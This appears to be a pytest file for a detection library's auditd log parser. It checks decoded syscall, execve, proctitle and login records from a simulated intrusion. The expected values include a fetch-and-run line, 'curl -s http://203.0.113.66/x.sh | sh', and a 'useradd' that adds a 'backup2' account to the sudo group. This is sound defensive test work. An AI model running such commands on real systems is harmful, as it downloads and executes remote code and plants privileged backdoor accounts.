"""auditd records: key=value fields, audit(EPOCH:SERIAL), hex-encoded values, nested user-space msg."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

from secops.detection.events import ReadStats
from secops.detection.readers import read_paths
from secops.detection.readers.auditd import decode_hex, parse_record

AUDIT = Path(__file__).parent.parent / "fixtures" / "logs" / "audit" / "audit.log"


def read() -> tuple[list[dict[str, object]], list[datetime | None], ReadStats]:
    stats = ReadStats()
    batches = list(read_paths([AUDIT], stats=stats))
    assert len(batches) == 1
    batch = batches[0]
    assert batch.source == "auditd"
    return [batch.event(row, internal=True) for row in batch.rows()], batch.timestamps, stats


def test_syscall_record() -> None:
    events, stamps, stats = read()
    assert stats.malformed == {str(AUDIT): 2}  # a plain-text line and an audit() stamp that is not a number
    syscall = events[0]
    assert stamps[0] == datetime(2024, 3, 12, 0, 22, 9, 123000, tzinfo=UTC)
    assert {k: syscall[k] for k in ("type", "serial", "syscall", "SYSCALL", "exe", "comm", "key", "auid", "uid")} == {
        "type": "SYSCALL",
        "serial": "8812",
        "syscall": "59",
        "SYSCALL": "execve",  # named from the x86_64 table (arch=c000003e)
        "exe": "/usr/sbin/useradd",
        "comm": "useradd",
        "key": "user_modification",
        "auid": "1001",
        "uid": "0",
    }
    assert syscall["a0"] == "55d0c7a4b2a0"  # register values are not text, never hex-decoded
    assert syscall["_product"] == "linux" and syscall["_service"] == ("auditd",)


def test_execve_and_proctitle_hex_decoding() -> None:
    events, _, _ = read()
    execve = events[1]
    assert [execve[f"a{i}"] for i in range(7)] == ["useradd", "-m", "-s", "/bin/bash", "-G", "sudo", "backup2"]
    assert execve["argc"] == "7"
    assert events[3]["name"] == "/usr/sbin/useradd" and events[3]["ouid"] == "0"
    assert events[4]["proctitle"] == "useradd -m -s /bin/bash -G sudo backup2"
    assert events[6]["a2"] == "curl -s http://203.0.113.66/x.sh | sh"  # an argument with spaces is hex in the log
    assert events[7]["proctitle"] == "bash -c curl -s http://203.0.113.66/x.sh | sh"
    assert events[5]["uid"] == "33" and events[5]["exe"] == "/usr/bin/bash"


def test_user_space_records_unfold_their_msg() -> None:
    events, _, _ = read()
    login = events[8]
    assert login["type"] == "USER_LOGIN"
    assert {k: login[k] for k in ("op", "acct", "exe", "addr", "terminal", "res", "pid")} == {
        "op": "login",
        "acct": "root",
        "exe": "/usr/sbin/sshd",
        "addr": "203.0.113.50",
        "terminal": "sshd",
        "res": "failed",
        "pid": "20801",
    }
    assert login["msg"].startswith("op=login acct=")
    assert events[9]["acct"] == "bad user"  # hex inside the nested msg too


def test_node_prefix_and_enriched_format() -> None:
    events, _, _ = read()
    chmod = events[10]
    assert chmod["node"] == "web01" and chmod["type"] == "SYSCALL"
    assert chmod["SYSCALL"] == "chmod" and chmod["AUID"] == "deploy" and chmod["UID"] == "root"
    assert chmod["key"] == "perm_mod"


def test_parse_record_edges() -> None:
    assert parse_record("msg=audit(1.0:1): no type") is None
    assert parse_record("type=X msg=audit(1.0:1 unterminated") is None
    epoch, fields = parse_record('type=PATH msg=audit(1700000000.5:9): name=(null) key=(null) cwd=2F746D70 exe=""')  # type: ignore[misc]
    assert epoch == 1700000000.5
    assert fields["name"] == "(null)" and fields["cwd"] == "/tmp" and fields["exe"] == ""
    assert decode_hex("FF00") == "\ufffd"
